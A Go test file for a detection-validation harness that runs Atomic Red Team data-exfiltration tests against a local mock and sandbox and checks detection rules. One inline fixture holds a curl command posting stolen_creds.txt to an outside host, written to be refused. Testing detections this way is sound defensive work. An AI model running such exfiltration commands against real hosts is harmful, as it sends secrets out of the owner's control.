package harness

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/atomics"
	"github.com/t1567001/harness/emulator"
	"github.com/t1567001/harness/event"
	"github.com/t1567001/harness/executor"
	"github.com/t1567001/harness/fixtures"
	"github.com/t1567001/harness/internal/racechild"
	"github.com/t1567001/harness/internal/reftest"
	"github.com/t1567001/harness/rules"
	"github.com/t1567001/harness/sandbox"
	"github.com/t1567001/harness/sensor"
	"github.com/t1567001/harness/validate"
)

// The test binary stands in for the harness binary: it is the sensor, its
// trampoline, the sandbox's first process, and the replay child of
// simulated tests.
func TestMain(m *testing.M) {
	if code, ok := RunChild(context.Background(), os.Args[1:], os.Stdout, os.Stderr); ok {
		os.Exit(code)
	}
	racechild.Quiet()
	os.Exit(m.Run())
}

func options(t *testing.T) Options {
	t.Helper()
	exe, err := os.Executable()
	require.NoError(t, err)
	return Options{Harness: exe, Timeout: time.Minute, Observe: true}
}

// baseOptions runs the four atomics of atomics/T1567.001.yaml, not their
// variants and benign look-alikes (TestCoverageMatrix runs those).
func baseOptions(t *testing.T) Options {
	t.Helper()
	opts := options(t)
	opts.Atomics = filepath.Join(reftest.ModuleRoot(t), "atomics", "T1567.001.yaml")
	return opts
}

func fixtureSHA(t *testing.T, name string) string {
	t.Helper()
	data, err := fixtures.FS.ReadFile("sensitive/" + name)
	require.NoError(t, err)
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// seedGUIDs are the T1567.001 atomics, the T1567.002 rclone copies to S3
// and to Mega, and the T1567.003 paste upload.
var seedGUIDs = []string{
	"5b3c6f0e-8a8e-4c2f-9f35-1567001a0001", "5b3c6f0e-8a8e-4c2f-9f35-1567001a0002", "5b3c6f0e-8a8e-4c2f-9f35-1567001a0003",
	"5b3c6f0e-8a8e-4c2f-9f35-1567001a0004", "5b3c6f0e-8a8e-4c2f-9f35-1567001a0005", "5b3c6f0e-8a8e-4c2f-9f35-1567003a0001",
	"5b3c6f0e-8a8e-4c2f-9f35-1567002a0001", megaGUID,
}

// megaGUID is the Linux form of ART's rclone-to-Mega test.
const megaGUID = "5b3c6f0e-8a8e-4c2f-9f35-1567002a0002"

func TestSeedAtomicsEndToEnd(t *testing.T) {
	t.Parallel()
	opts := options(t)
	opts.Tests = seedGUIDs
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	res := run.Results
	require.Len(t, res.Atomics, 8)
	assert.NotEmpty(t, res.RunID)
	assert.Equal(t, "local", res.Mode)

	want := map[string]struct {
		host, method string
		files        []string
	}{
		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0001": {"api.github.com", "PUT", []string{"finance_q3.csv"}},
		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0002": {"github.com", "POST", []string{"stolen_creds.txt", "finance_q3.csv"}},
		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0003": {"api.github.com", "POST", []string{"stolen_creds.txt"}},
		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0004": {"api.github.com", "PUT", []string{"hosts"}},
		// The archive's members are accounted for; the archive itself and
		// the export it adds are no staged file.
		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0005": {"api.github.com", "PUT", []string{"finance_q3.csv", "stolen_creds.txt"}},
		"5b3c6f0e-8a8e-4c2f-9f35-1567003a0001": {"pastebin.com", "POST", []string{"stolen_creds.txt"}},
		// The real rclone, each file a PutObject to the bucket's
		// virtual-hosted name.
		"5b3c6f0e-8a8e-4c2f-9f35-1567002a0001": {"atomic-t1567-002-exfil.s3.us-east-1.amazonaws.com", "PUT", []string{"finance_q3.csv", "stolen_creds.txt"}},
		// Each file decrypted by the mock from what the put node's key
		// opens: the put is a POST to MEGA's API.
		megaGUID: {"g.api.mega.co.nz", "POST", []string{"finance_q3.csv", "stolen_creds.txt"}},
	}
	for _, a := range res.Atomics {
		t.Run(a.Name, func(t *testing.T) {
			w, ok := want[a.GUID]
			require.True(t, ok, a.GUID)
			assert.Equal(t, 0, a.ExitCode, a.Stderr)
			assert.True(t, a.Intact)
			if sim, ok := map[string]string{"5b3c6f0e-8a8e-4c2f-9f35-1567001a0001": "pwsh", megaGUID: "mega backend"}[a.GUID]; ok {
				// Honest about PowerShell, and about an rclone without its
				// mega backend (Debian's): simulated unless the tool can
				// really do it.
				assert.Contains(t, []string{"simulated", "executed"}, a.Execution)
				if a.Execution == "simulated" {
					assert.Contains(t, a.SimulationReason, sim)
				}
			} else {
				assert.Equal(t, "executed", a.Execution)
			}
			require.Len(t, a.Staged, len(w.files))
			for i, name := range w.files {
				assert.Equal(t, name, a.Staged[i].Name)
				assert.Equal(t, fixtureSHA(t, name), a.Staged[i].SHA256)
				assert.True(t, a.Staged[i].Arrived, name)
			}
			require.NotEmpty(t, a.Uploads)
			staged := map[string]bool{}
			for _, s := range a.Staged {
				staged[s.SHA256] = true
			}
			for _, u := range a.Uploads {
				assert.Equal(t, w.host, u.Host)
				assert.Equal(t, w.method, u.Method)
				assert.Equal(t, staged[u.SHA256], u.Intact, "%+v", u)
			}
			for _, q := range a.Requests {
				assert.False(t, q.Refused, "%+v", q)
			}
		})
	}
	// The ledger never holds the token, whatever the client sent.
	for _, e := range run.Ledger {
		assert.NotContains(t, e.Path, "ghp_")
		assert.NotContains(t, e.Note, "ghp_")
	}
	assert.GreaterOrEqual(t, assertNothingLeftTheMachine(t, run), 4, "each atomic connects at least once")
	assertDetections(t, run)
}

// assertNothingLeftTheMachine checks, from what the sensor saw every
// process do, that no connect() that succeeded went anywhere but loopback
// (the proxy) or, in the sandbox, the emulator's addresses, and returns how
// many connects there were.
func assertNothingLeftTheMachine(t *testing.T, run *Run) int {
	t.Helper()
	table, err := sandbox.DefaultTable()
	require.NoError(t, err)
	served := map[string]bool{}
	if run.Results.Sandbox == "on" {
		for _, a := range table.Addrs() {
			served[a.String()] = true
		}
	}
	connects := 0
	for _, tr := range run.Tests {
		if tr.Result.Execution == executor.NotRun {
			continue
		}
		require.NotEmpty(t, tr.Observations, "%s ran under the sensor", tr.Test.Name)
		for _, o := range tr.Observations {
			if o.Kind != sensor.KindConnect || o.RemoteIP == "" {
				continue
			}
			connects++
			ip := net.ParseIP(o.RemoteIP)
			require.NotNil(t, ip, o.RemoteIP)
			if o.Result != sensor.ResultOK && o.Result != sensor.ResultAttempted {
				continue // failed closed
			}
			assert.True(t, ip.IsLoopback() || served[o.RemoteIP], "%s: pid %d connected to %s:%d", tr.Test.Name, o.PID, o.RemoteIP, o.RemotePort)
		}
	}
	return connects
}

// assertDetections renders every context and checks every expectation of
// the embedded atomics with the shipped seed rule.
func assertDetections(t *testing.T, run *Run) {
	t.Helper()
	profiles, err := Contexts(nil)
	require.NoError(t, err)
	require.Len(t, profiles, 5)
	loaded, _, err := validate.LoadRules(rules.FS, validate.Options{})
	require.NoError(t, err)
	events, err := run.Validate(context.Background(), profiles, "", loaded)
	require.NoError(t, err)
	assert.NotEmpty(t, events)
	verdicts := run.Results.Verdicts
	require.Len(t, verdicts, 568, "8 atomics x 5 contexts, for the seed rules and the other seeds' rules each atomic names (the correlations added 50, rclone to S3 70, rclone to Mega 70)")
	gaps := map[string]int{}
	for _, v := range verdicts {
		assert.True(t, v.Pass, "%s / %s / %s: %s", v.Context, v.Atomic, v.Expected, v.Explanation)
		if v.Gap != "" {
			gaps[v.Rule]++
		}
	}
	assert.Equal(t, map[string]int{
		// The seed rule: the IDE exception on Sysmon 3, git-remote-https,
		// reverse-lookup host names, the numeric build agent.
		"seed_t1567_001_code_repo_exfil":      18,
		"seed_t1567_001_code_repo_exfil_net":  13,
		"seed_t1567_001_code_repo_exfil_proc": 5,
		// Analytic 1 compares whole host names: the three API uploads to
		// api.github.com and the archive upload, in every context.
		"mitre_analytic_1_suspicious_exfil":       20,
		"mitre_analytic_1_suspicious_exfil_proxy": 20,
		// Byte ratios cannot see uploads smaller than a TLS handshake: every
		// small upload to a repository (and, for D3FEND, the paste and the
		// copies to S3 and Mega too).
		"mitre_det0318_an0897_byte_ratio_zeek":  20,
		"mitre_det0318_an0897_byte_ratio_proxy": 20,
		"d3fend_download_upload_ratio":          35,
		// Sysmon's own reverse lookup names no Mega host.
		"net_connection_win_mega_nz": 1,
		// A push reads the files in git.exe and uploads from
		// git-remote-https.exe: no one process does both.
		"mitre_det0318_an0895_read_then_upload":             5,
		"mitre_det0318_an0895_read_then_upload_correlation": 5,
	}, gaps)
}

func TestOtherHostsAreRefusedAndRecorded(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	path := filepath.Join(dir, "T0000.yaml")
	require.NoError(t, os.WriteFile(path, []byte(`attack_technique: T0000
display_name: egress probe
atomic_tests:
- name: reach outside
  description: tries to leave the machine; must be refused by the proxy
  supported_platforms: [linux]
  staged_files: [stolen_creds.txt]
  executor:
    name: sh
    command: |
      curl -sS --fail --max-time 20 -X POST --data-binary @stolen_creds.txt https://example.com/upload
`), 0o600))
	opts := options(t)
	opts.Atomics = path
	opts.NoSandbox = true // the sandbox's own refusals: TestSandboxFailsClosed
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	assert.Equal(t, "off", run.Results.Sandbox)
	require.Len(t, run.Results.Atomics, 1)
	a := run.Results.Atomics[0]
	assert.NotEqual(t, 0, a.ExitCode)
	assert.False(t, a.Intact)
	assert.Empty(t, a.Uploads)
	require.Len(t, a.Requests, 1)
	assert.Equal(t, "example.com", a.Requests[0].Host)
	assert.True(t, a.Requests[0].Refused)
	assert.Equal(t, 403, a.Requests[0].Status)
}

func TestLoadAtomicsSelection(t *testing.T) {
	t.Parallel()
	sel, err := LoadAtomics("", []string{"5B3C6F0E-8A8E-4C2F-9F35-1567001A0003", "automated data exfiltration via python github api script"})
	require.NoError(t, err)
	require.Len(t, sel, 2)
	assert.Equal(t, "Exfiltrate Data via GitHub Gist API Using curl", sel[0].Test.Name)
	_, err = LoadAtomics("", []string{"nope"})
	assert.ErrorContains(t, err, `no atomic test named "nope"`)
}

func rulesFS() fs.FS { return rules.FS }

// TestRealWebhookAtomics runs the public T1567.004 atomics from the Atomic
// Red Team corpus, unmodified: the shell ones really run curl at
// discord.com and hooks.slack.com, whose webhooks the mock serves, and the
// ledger proves what they posted; the PowerShell ones do not run here, and
// say why.
func TestRealWebhookAtomics(t *testing.T) {
	t.Parallel()
	opts := options(t)
	opts.Atomics = filepath.Join(reftest.Dir(t, "atomics"), "T1567.004.yaml")
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	require.Len(t, run.Results.Atomics, 4)
	const staged = "secrets, api keys, passwords - T1567.004 atomic test"
	sums := map[string]bool{fmt.Sprintf("%x", sha256.Sum256([]byte(staged+"\n"))): true, fmt.Sprintf("%x", sha256.Sum256([]byte(staged))): true}
	hosts := map[string]bool{}
	for _, a := range run.Results.Atomics {
		switch {
		case strings.Contains(a.Name, "(PowerShell)"):
			if _, err := exec.LookPath("pwsh"); err == nil {
				continue
			}
			assert.Equal(t, "not-run", a.Execution, a.Name)
			assert.Contains(t, strings.Join(a.MissingPrereqs, " "), "pwsh", a.Name)
		default:
			assert.Equal(t, "executed", a.Execution, a.Name)
			require.NotEmpty(t, a.Requests, "%s reached the mock", a.Name)
			for _, q := range a.Requests {
				assert.False(t, q.Refused, "%s: %+v", a.Name, q)
				hosts[q.Host] = true
			}
			require.Len(t, a.Uploads, 1, a.Name)
			assert.True(t, sums[a.Uploads[0].SHA256], "%s: the ledger holds what was staged: %+v", a.Name, a.Uploads[0])
		}
	}
	assert.Equal(t, map[string]bool{"discord.com": true, "hooks.slack.com": true}, hosts)
	// In the sandbox each curl connects twice: to the DNS sinkhole and to
	// the webhook's address.
	assert.Equal(t, 4, assertNothingLeftTheMachine(t, run), "each curl: the sinkhole and the webhook's address")
}

// TestUnwatchedTestIsReportedNotFatal: when the sensor cannot watch a test
// (here the "harness" given is /bin/true, which neither traces nor runs the
// command), the run still completes, says there is no telemetry, and every
// expectation of that test fails with that reason.
func TestUnwatchedTestIsReportedNotFatal(t *testing.T) {
	t.Parallel()
	opts := options(t)
	opts.Harness = "/bin/true"
	opts.Tests = []string{"Exfiltrate Data via GitHub Gist API Using curl"}
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	require.Len(t, run.Results.Atomics, 1)
	a := run.Results.Atomics[0]
	assert.Contains(t, a.Stderr, "no telemetry")
	assert.False(t, a.Intact, "nothing ran, nothing arrived")

	profiles, err := Contexts([]string{"workstation"})
	require.NoError(t, err)
	loaded, _, err := validate.LoadRules(rules.FS, validate.Options{})
	require.NoError(t, err)
	_, err = run.Validate(context.Background(), profiles, "", loaded)
	require.NoError(t, err)
	require.NotEmpty(t, run.Results.Verdicts)
	for _, v := range run.Results.Verdicts {
		assert.False(t, v.Pass)
		assert.Contains(t, v.Explanation, "no telemetry for this test: the sensor did not watch it")
	}
}

// validateIn renders run under the named context and checks its
// expectations with the shipped rules.
func validateIn(t *testing.T, run *Run, ctxName string) []validate.Verdict {
	t.Helper()
	profiles, err := Contexts([]string{ctxName})
	require.NoError(t, err)
	loaded, _, err := validate.LoadRules(rules.FS, validate.Options{})
	require.NoError(t, err)
	_, err = run.Validate(context.Background(), profiles, "", loaded)
	require.NoError(t, err)
	require.NotEmpty(t, run.Results.Verdicts)
	return run.Results.Verdicts
}

// A detection that rests only on the atomic's declared Windows command,
// with nothing observed behind it, does not pass.
func TestDeclaredOnlyDetectionFails(t *testing.T) {
	t.Parallel()
	opts := options(t)
	opts.Atomics = filepath.Join("testdata", "declared_only.yaml")
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	require.Empty(t, run.Ledger, "the fixture makes no request")
	verdicts := validateIn(t, run, "workstation")
	require.Len(t, verdicts, 2)
	for _, v := range verdicts {
		assert.False(t, v.Pass, "%s: %s", v.Rule, v.Explanation)
		assert.Equal(t, "declared", v.Basis())
		assert.Contains(t, v.Explanation, "on no observed event")
		assert.Regexp(t, `rests on Event ID 1 record \d+ on WS-FIN-0142\.corp\.example, declared \(taken from the atomic's windows_executor text, not from what ran\): EventCode 1 .*powershell\.exe`, v.Explanation)
		assert.Contains(t, v.Explanation, "windows_executor")
	}
}

// Mutation: without the observed curl process, nothing the curl atomic's
// detections rest on was observed, and its expectations fail.
func TestCurlExpectationsRestOnTheObservedCurl(t *testing.T) {
	t.Parallel()
	opts := options(t)
	opts.Tests = []string{"5b3c6f0e-8a8e-4c2f-9f35-1567001a0003"}
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	require.Len(t, run.Tests, 1)
	for _, v := range validateIn(t, run, "workstation") {
		assert.True(t, v.Pass, "%s %s: %s", v.Rule, v.Expected, v.Explanation)
		if v.Expected.Fires {
			assert.Contains(t, v.RestsOn, event.Observed, "%s %s", v.Rule, v.Expected)
		}
	}

	curl := map[int]bool{}
	for _, o := range run.Tests[0].Observations {
		if o.Kind == sensor.KindExec && filepath.Base(o.Exe) == "curl" {
			curl[o.PID] = true
		}
	}
	require.NotEmpty(t, curl, "the sensor saw curl")
	var kept []sensor.Observation
	for _, o := range run.Tests[0].Observations {
		if !curl[o.PID] {
			kept = append(kept, o)
		}
	}
	run.Tests[0].Observations = kept
	failed := 0
	for _, v := range validateIn(t, run, "workstation") {
		if v.Expected.Fires {
			assert.False(t, v.Pass, "%s %s passes without curl: %s", v.Rule, v.Expected, v.Explanation)
			failed++
		}
	}
	assert.Equal(t, 7, failed, "the seed rule's four, SigmaHQ's github rule and AN0895 (SPL and Sigma correlation)")
}

// An expect: block under a context no profile has would never be checked:
// loading the atomics fails there, with file and line.
func TestUnknownExpectContextIsALoadError(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "T1.yaml")
	require.NoError(t, os.WriteFile(path, []byte(`attack_technique: T1
display_name: x
atomic_tests:
- name: a
  description: d
  supported_platforms: [linux]
  executor: {name: sh, command: echo}
  expect:
    laptop:
    - rule: seed_t1567_001_code_repo_exfil
      fires: true
`), 0o600))
	_, err := LoadAtomics(path, nil)
	require.Error(t, err)
	assert.Contains(t, err.Error(), path+`:9:5: atomic_tests[0].expect.laptop: no host profile is named "laptop"`)
}

// The ledger says which entries a replay made in place of a missing tool.
func TestLedgerMarksReplayedEntries(t *testing.T) {
	t.Parallel()
	ps, curl := &atomics.Test{Name: "ps"}, &atomics.Test{Name: "curl"}
	run := &Run{
		Ledger: []emulator.Entry{{Seq: 1}, {Seq: 2}, {Seq: 3}},
		Tests: []TestRun{
			{Selected: Selected{Test: ps}, Result: &executor.Result{Execution: executor.Simulated}, Ledger: []emulator.Entry{{Seq: 1}}},
			{Selected: Selected{Test: curl}, Result: &executor.Result{Execution: executor.Executed}, Ledger: []emulator.Entry{{Seq: 2}}},
		},
	}
	got := run.LedgerEntries()
	require.Len(t, got, 3)
	assert.Equal(t, LedgerEntry{Entry: emulator.Entry{Seq: 1}, Atomic: "ps", Simulated: true}, got[0])
	assert.Equal(t, LedgerEntry{Entry: emulator.Entry{Seq: 2}, Atomic: "curl"}, got[1])
	assert.Equal(t, LedgerEntry{Entry: emulator.Entry{Seq: 3}}, got[2], "a request no test made")
	data, err := json.Marshal(got[0])
	require.NoError(t, err)
	assert.Contains(t, string(data), `"seq":1`)
	assert.Contains(t, string(data), `"simulated":true`)
}

// TestRealPastebinAtomicLoadsUnmodified runs ART's T1567.003 file as
// published: its PowerShell test reaches the mock's pastebin.com where pwsh
// is installed and, here without it, says so instead of running.
func TestRealPastebinAtomicLoadsUnmodified(t *testing.T) {
	opts := options(t)
	opts.Atomics = filepath.Join(reftest.Dir(t, "atomics"), "T1567.003.yaml")
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	require.Len(t, run.Results.Atomics, 1)
	a := run.Results.Atomics[0]
	if _, err := exec.LookPath("pwsh"); err == nil {
		assert.Equal(t, "executed", a.Execution)
		require.NotEmpty(t, a.Requests)
		for _, q := range a.Requests {
			assert.Equal(t, "pastebin.com", q.Host)
			assert.False(t, q.Refused, "%+v", q)
		}
		return
	}
	assert.Equal(t, "not-run", a.Execution)
	assert.Contains(t, strings.Join(a.MissingPrereqs, " "), "pwsh")
	assert.Empty(t, a.Requests)
}
